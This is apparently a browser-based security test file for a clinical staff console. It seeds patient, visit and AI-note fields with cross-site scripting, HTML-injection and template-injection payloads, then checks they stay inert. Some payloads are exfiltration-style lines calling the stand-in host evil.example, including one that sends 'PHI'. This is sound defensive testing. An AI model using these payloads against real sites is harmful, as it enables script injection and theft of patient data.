"""Attacks through what staff look at: scripts and links in every field of a proposal and of the
chart behind it, in a real browser, with the door that would refuse them held open."""

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, Dialog, Page, Request, async_playwright, expect

from tests.attacks.contract import CANARY, refused
from tests.web.console.test_proposal_in_browser import ARGUMENTS, CHROMIUM
from tests.web.front_desk import PASSWORD, FrontDesk

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="no browser: apt-get install chromium"),
]

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    '"><script>window.pwned=1</script>',
    "' autofocus onfocus=window.pwned=1 x='",
    "<a href='javascript:window.pwned=1'>open</a>",
    "![](https://evil.example/?q=PHI)",
    "<style>body{background:url(https://evil.example/c)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example></iframe>",
    "</textarea><script>window.pwned=1</script>",
    "{{7*7}}{% print 1 %}${7*7}<%= 7*7 %>",
    "<form action=https://evil.example><button>Approve</button></form>",
    "<base href=https://evil.example/>",
    "\u202e<b>turned</b>\u0000".replace("\u0000", ""),
)
ALL = f" {CANARY} ".join(PAYLOADS)


@dataclass
class Watch:
    """A browser, and what it did that it should not have done."""

    browser: Browser
    hosts: set[str] = field(default_factory=set)
    dialogs: list[str] = field(default_factory=list)

    async def page(self) -> Page:
        page = await (await self.browser.new_context()).new_page()
        page.on("request", self._asked)
        page.on("dialog", self._dialog)
        page.set_default_timeout(20_000)
        return page

    def _asked(self, request: Request) -> None:
        self.hosts.add(urlsplit(request.url).netloc)

    async def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()


@pytest.fixture
async def watch() -> AsyncIterator[Watch]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield Watch(browser=browser)
        await browser.close()


async def signed_in(desk: FrontDesk, watch: Watch, name: str) -> Page:
    await desk.add(name)
    page = await watch.page()
    await page.goto(f"{desk.served.url}/login")
    await page.get_by_label("Name").fill(name)
    await page.get_by_label("Password").fill(PASSWORD)
    await page.get_by_role("button", name="Sign in", exact=True).click()
    await expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    return page


async def check_harmless(desk: FrontDesk, watch: Watch, page: Page) -> None:
    """Nothing ran, nothing was loaded, nothing of it became an element."""
    assert await page.evaluate("() => window.pwned") is None
    for element in ("script", "iframe", "img", "svg", "base", "style", "meta[content*=evil]"):
        assert await page.locator(element).count() == 0, element
    links: list[str] = await page.eval_on_selector_all("a", "all => all.map(a => a.href)")
    links += await page.eval_on_selector_all("form", "all => all.map(f => f.action)")
    assert {urlsplit(link).netloc for link in links} == {urlsplit(desk.served.url).netloc}
    assert watch.hosts == {urlsplit(desk.served.url).netloc}
    assert watch.dialogs == []


async def test_P_06_scripts_in_every_field_of_a_proposal_and_its_chart(
    desk: FrontDesk, watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The patient's name, the visit's reason, the note, its type and the AI's own words."""
    monkeypatch.setattr("chartgate.flows.drafts.check_smuggling", lambda *_, **__: None)
    hospital = desk.clinic.hospital
    for reference, change in hostile(desk).items():
        hospital.edit(hospital.resource(reference) | change)
    proposal = await desk.note(ALL, rationale=ALL)
    page = await signed_in(desk, watch, "dr-osei")
    for path in ("/", f"/proposals/{proposal.id}", "/worklist"):
        await page.goto(desk.served.url + path)
        for details in await page.locator("details:not([open]) > summary").all():
            if await details.is_visible():
                await details.click()
        await check_harmless(desk, watch, page)
    await page.goto(f"{desk.served.url}/proposals/{proposal.id}")
    text = await page.locator("body").inner_text()
    assert "<script>window.pwned=1</script>" in text
    assert "{{7*7}}" in text
    await page.get_by_label("Reason").first.fill(ALL[:1_500])
    await page.get_by_role("button", name="Refuse").first.click()
    await page.goto(f"{desk.served.url}/proposals/{proposal.id}")
    await check_harmless(desk, watch, page)


def hostile(desk: FrontDesk) -> dict[str, dict[str, Any]]:
    scenario = desk.clinic.hospital.scenario
    return {
        scenario.visit_patient: {"name": [{"family": ALL, "given": [ALL]}]},
        scenario.visit: {"reasonCode": [{"text": ALL, "coding": [{"display": ALL, "code": "x"}]}]},
    }


@pytest.mark.parametrize("payload", ["<script>x</script>", "//evil.example", "javascript:x", "x"])
async def test_P_06_texts_in_addresses_of_pages(desk: FrontDesk, payload: str) -> None:
    """What stands in a URL is never shown as it stands, nor gone to."""
    session = await desk.sign_in("sofia")
    for path in (f"/?done={payload}", f"/login?then={payload}", f"/proposals/x?done={payload}"):
        answer = await desk.ask("GET", path.replace("<", "%3C").replace(">", "%3E"),
                                headers=session.headers)  # fmt: skip
        assert "<script>x" not in answer.text
        assert "evil.example" not in answer.headers.get("Location", "")
        assert 'href="javascript' not in answer.text


async def test_P_06_page_of_what_is_not_there_is_a_page_of_ours(desk: FrontDesk) -> None:
    session = await desk.sign_in("sofia")
    way = lambda: desk.ask("GET", "/proposals/%3Cscript%3E", headers=session.headers)
    answer = await refused(desk, way, status=404)
    assert "<script>" not in answer.text
